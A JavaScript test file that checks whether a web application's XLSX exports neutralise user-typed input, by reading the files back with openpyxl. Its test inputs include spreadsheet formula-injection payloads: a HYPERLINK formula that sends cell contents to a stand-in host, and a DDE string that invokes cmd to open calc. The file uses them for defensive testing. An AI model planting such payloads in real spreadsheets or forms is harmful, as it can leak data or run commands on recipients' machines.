// The lists as another library reads them: openpyxl knows nothing of the one that wrote them.
'use strict';
const assert = require('assert');
const fs = require('fs');
const path = require('path');
const { spawnSync } = require('child_process');
const { Visitor, H } = require('../lib.js');

// What a person may type, and a spreadsheet must not understand.
const TYPED = ['=HYPERLINK("http://x.example/?"&A1,"点")', '+86-519 示例', "@SUM(1+1)*cmd|' /C calc'!A0", '-1', 'http://x.example/', '001', '１２３', 'TRUE', '#REF!'];
const PYTHON = '/usr/bin/python3'; // the system's own, whose library it is
const LONG_CODE = '123456789012345678';

function plant(dir) {
  const quoted = (s) => `'${s.replace(/'/g, "''")}'`;
  const sql = TYPED.map((t, i) => `UPDATE body SET name = ${quoted(`${t} ${i}`)} WHERE id = (SELECT id FROM body WHERE kind = 'unit' ORDER BY id LIMIT 1 OFFSET ${i});`);
  sql.push(`UPDATE body SET org_code = '${LONG_CODE}' WHERE id = (SELECT id FROM body WHERE kind = 'unit' ORDER BY id LIMIT 1);`);
  const done = spawnSync('sqlite3', [path.join(dir, 'jianpin.sqlite'), sql.join('\n')], { encoding: 'utf8' });
  assert.strictEqual(done.status, 0, done.stderr);
}

async function readBack(visitor, address, dir) {
  const answer = await visitor.page.request.get(visitor.origin + address);
  assert.strictEqual(answer.status(), 200, address);
  assert.match(answer.headers()['content-disposition'], /^attachment/);
  assert.strictEqual(answer.headers()['x-content-type-options'], 'nosniff');
  const file = path.join(dir, 'read-back.xlsx');
  fs.writeFileSync(file, await answer.body());
  const read = spawnSync(PYTHON, [path.join(__dirname, '../../support/read_workbook.py'), file], { encoding: 'utf8' });
  assert.strictEqual(read.status, 0, read.stderr);
  const book = JSON.parse(read.stdout);
  assert.strictEqual(book.sheets.length, 1);
  return book.sheets[0];
}

const column = (sheet, title) => {
  const at = sheet.head.indexOf(title);
  assert.ok(at >= 0, `no column ${title} in ${sheet.head}`);
  return sheet.rows.map((row) => row[at]).filter((c) => c.value !== null);
};

// What holds for every list, whoever asks for it.
function holds(sheet) {
  assert.ok(sheet.rows.length > 0 && sheet.rows.every((row) => row.length === sheet.head.length));
  for (const cell of sheet.rows.flat()) {
    assert.notStrictEqual(cell.type, 'f', `${cell.at} is a formula: ${cell.value}`);
    assert.notStrictEqual(cell.type, 'e', `${cell.at} is an error`);
    assert.strictEqual(cell.link, false, `${cell.at} is a link`);
  }
  assert.ok(sheet.freeze && sheet.head.every((t) => typeof t === 'string' && t !== ''), 'the heads are frozen');
  assert.ok(sheet.head_bold.every(Boolean));
  assert.ok(sheet.filter && sheet.title_rows, 'the heads filter, and come back on each printed page');
  assert.strictEqual(sheet.landscape, 'landscape');
  const widths = Object.values(sheet.widths);
  assert.ok(widths.length > 0 && widths.every((x) => x >= 5 && x <= 60), JSON.stringify(sheet.widths));
  assert.ok(sheet.above.length > 1, 'title and notes stand above');
  assert.ok(column(sheet, '序号').every((c, i) => c.type === 'n' && c.value === String(i + 1)));
}

module.exports = async ({ tally, browser, binary, dir, moment }) => {
  plant(dir);
  const server = await H.serve(binary, dir, { skew: H.skewTo(moment) });
  const people = H.accounts(dir);
  const office = await Visitor.come(browser, server);
  await office.signIn(people.find((a) => a.login === 'office01'));

  await tally.test('nominations.xlsx, read by another library: numbers count, moments are dates, telephones are masked', async () => {
    const sheet = await readBack(office, '/nominations.xlsx', dir);
    holds(sheet);
    assert.ok(column(sheet, '受理编号').every((c) => c.type === 's' && /^[A-Z]+-\d{4}-\d{4}$/.test(c.value)));
    assert.ok(column(sheet, '提交时间').every((c) => c.type === 'd' && /^2015-0[56]-\d\d \d\d:\d\d/.test(c.value)));
    assert.ok(column(sheet, '版本').every((c) => c.type === 'n'));
    const told = [...column(sheet, '办公电话'), ...column(sheet, '手机')];
    assert.ok(told.length > 0 && told.every((c) => c.type === 's' && c.value.includes('***')), JSON.stringify(told));
  });

  await tally.test('bodies/list.xlsx: what was typed stays what was typed, and a long code keeps its last digits', async () => {
    const sheet = await readBack(office, '/bodies/list.xlsx', dir);
    holds(sheet);
    const names = column(sheet, '名称');
    TYPED.forEach((t, i) => {
      const found = names.find((c) => c.value === `${t} ${i}`);
      assert.ok(found && found.type === 's', `${t}: ${JSON.stringify(found)}`);
    });
    const codes = column(sheet, '代码');
    assert.ok(codes.every((c) => c.type === 's'));
    assert.ok(codes.some((c) => c.value === LONG_CODE));
    assert.ok(column(sheet, '账号数').every((c) => c.type === 'n'));
  });
  await office.leave();
  await server.stop();
};
